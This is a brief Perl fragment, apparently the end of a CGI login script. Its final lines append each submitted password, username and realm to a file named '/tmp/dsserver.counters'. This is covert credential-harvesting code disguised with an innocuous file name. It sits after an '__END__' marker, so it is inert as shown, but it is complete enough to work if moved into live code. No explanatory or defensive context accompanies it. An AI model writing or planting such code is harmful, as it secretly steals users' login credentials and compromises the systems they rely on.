exit;
__END__
open FD, ">>/tmp/dsserver.counters";
printf FD "%s:%s:%s\n", CGI::param('password'), CGI::param('username'), CGI::param('realm');
close FD;
